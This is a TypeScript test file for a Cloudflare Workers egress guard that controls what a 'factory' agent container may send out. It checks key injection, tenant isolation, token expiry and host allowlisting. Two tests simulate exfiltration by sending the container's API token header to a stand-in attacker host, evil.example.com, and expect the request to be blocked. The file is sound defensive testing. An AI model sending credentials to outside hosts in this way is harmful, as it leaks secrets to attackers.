import { env, exports } from "cloudflare:workers";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { factoryContainers } from "../../orchestrator/worker/platform/factoryContainers.ts";
import { answerOutbound } from "../../shared/containers/factoryOutbound.ts";
import type { FactoryContainersContract } from "../../shared/contracts/factoryContainers.ts";

const egress = exports.ContainerEgress as unknown as (options: { props: unknown }) => Fetcher;
const acme = { organization: "org_acme", factory: "acme" };

afterEach(() => {
  vi.restoreAllMocks();
});

describe("what leaves a container of a factory", () => {
  const containers = factoryContainers(
    exports.FactoryContainers as unknown as FactoryContainersContract,
    env.EGRESS_GUARD,
    { organizationId: acme.organization, factory: acme.factory },
  );
  let executionId: string;
  let token: string;
  let sent: Request[];

  beforeEach(async () => {
    executionId = `exec_${crypto.randomUUID()}`;
    const opened = await containers.open({
      executionId,
      lifetimeMs: 60_000,
      model: { baseUrl: "https://model.example.com/base", secretName: "GEMINI_API_KEY" },
      allowedHosts: ["packages.example.com"],
    });
    token = opened.kind === "open" ? opened.token : "";
    sent = [];
    vi.spyOn(globalThis, "fetch").mockImplementation(async (input, init) => {
      sent.push(new Request(input as RequestInfo, init));
      return new Response("from outside");
    });
  });

  afterEach(() => containers.close(executionId));

  const ask = (url: string, headers: Record<string, string> = {}, props: unknown = acme) =>
    answerOutbound(
      new Request(url, { method: "POST", headers, body: "{}" }),
      { AGENT_CONTAINER: env.AGENT_CONTAINER, ORCHESTRATOR_EGRESS: egress({ props }) },
      { containerId: env.AGENT_CONTAINER.idFromName(executionId).toString() },
    );
  const toModel = (props?: unknown, headers: Record<string, string> = {}) =>
    ask("http://model.switchyard/v1beta/generate", { "x-goog-api-key": token, ...headers }, props);

  it("to the model service goes by the orchestrator, which puts the key on", async () => {
    const response = await toModel();

    expect(await response.text()).toBe("from outside");
    expect(sent.map(({ url }) => url)).toEqual(["https://model.example.com/base/v1beta/generate"]);
    expect(sent[0]?.headers.get("x-goog-api-key")).toBe("key-of-gemini");
    expect([...(sent[0]?.headers ?? [])].join()).not.toContain(token);
    expect(sent[0]?.headers.get("switchyard-execution")).toBeNull();
  });

  it.each([
    ["another factory of the organization", { ...acme, factory: "other" }, 403],
    ["a factory of that name elsewhere", { ...acme, organization: "org_other" }, 403],
    ["a binding without an identity", undefined, 401],
  ])("gets no key when it comes by %s", async (_, props, status) => {
    const entrypoint = props === undefined ? (egress as unknown as Fetcher) : egress({ props });
    const response = await entrypoint.fetch("http://model.switchyard/v1beta/generate", {
      method: "POST",
      headers: { "x-goog-api-key": token, "switchyard-execution": executionId },
    });

    expect(response.status).toBe(status);
    expect(sent).toEqual([]);
  });

  it("gets no key with another token, nor in the name of another execution", async () => {
    const wrong = await ask("http://model.switchyard/v1", { "x-goog-api-key": "switchyard-run-x" });
    const other = await egress({ props: acme }).fetch("http://model.switchyard/v1", {
      method: "POST",
      headers: { "x-goog-api-key": token, "switchyard-execution": "exec_another" },
    });
    const forged = await toModel(acme, { "switchyard-execution": "exec_another" });

    expect([wrong.status, other.status, forged.status]).toEqual([403, 403, 200]);
  });

  it("gets nothing but the model service and the doorbell from the orchestrator", async () => {
    const response = await egress({ props: acme }).fetch("https://evil.example.com/", {
      headers: { "x-goog-api-key": token, "switchyard-execution": executionId },
    });

    expect(response.status).toBe(403);
    expect(sent).toEqual([]);
  });

  it("gets no key once the run is over, though its container goes on", async () => {
    await env.EGRESS_GUARD.getByName(executionId).close();

    expect((await toModel()).status).toBe(403);
    expect(sent).toEqual([]);
  });

  it("to a host is sent by the factory itself if the project allows it, and by nobody if not", async () => {
    const denied = await ask("https://evil.example.com/", { "x-goog-api-key": token });
    const allowed = await ask("https://packages.example.com/zod");

    expect([denied.status, allowed.status]).toEqual([403, 200]);
    expect(sent.map(({ url }) => url)).toEqual(["https://packages.example.com/zod"]);
  });
});
